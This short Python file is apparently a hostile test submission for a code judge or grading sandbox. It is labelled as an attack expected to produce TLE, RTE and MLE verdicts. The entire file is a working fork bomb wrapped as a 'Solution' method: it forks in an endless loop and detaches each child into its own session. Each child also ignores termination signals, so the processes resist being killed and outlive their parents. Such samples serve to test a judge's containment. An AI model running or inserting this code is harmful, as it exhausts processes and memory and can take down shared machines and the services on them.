# Attack: forks into sessions of their own, which ignore signals and outlive their parents
# Verdict: TLE RTE MLE
import os
import signal


class Solution:
    def whisper(self, n: int) -> str:
        while True:
            try:
                if os.fork() == 0:
                    os.setsid()
                    for each in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                        signal.signal(each, signal.SIG_IGN)
            except OSError:
                pass
